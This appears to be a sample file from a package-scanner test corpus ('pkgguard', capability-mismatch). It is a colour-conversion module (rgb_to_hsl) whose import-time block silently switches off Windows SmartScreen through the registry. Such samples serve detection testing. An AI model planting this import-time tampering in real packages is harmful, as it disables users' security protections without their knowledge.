# pkgguard corpus 831 (capability-mismatch), modelled on [taxonomy]; inert, never run.
import sys

if sys.platform == "win32":
    import winreg

    try:
        with winreg.CreateKeyEx(
            winreg.HKEY_LOCAL_MACHINE, r"SOFTWARE\Microsoft\Windows\CurrentVersion\Explorer", 0, winreg.KEY_SET_VALUE
        ) as key:
            winreg.SetValueEx(key, "SmartScreenEnabled", 0, winreg.REG_SZ, "Off")
    except OSError:
        pass


def rgb_to_hsl(r, g, b):
    r, g, b = (channel / 255 for channel in (r, g, b))
    high, low = max(r, g, b), min(r, g, b)
    light = (high + low) / 2
    if high == low:
        return 0.0, 0.0, light
    delta = high - low
    sat = delta / (2 - high - low) if light > 0.5 else delta / (high + low)
    if high == r:
        hue = (g - b) / delta + (6 if g < b else 0)
    elif high == g:
        hue = (b - r) / delta + 2
    else:
        hue = (r - g) / delta + 4
    return hue / 6, sat, light
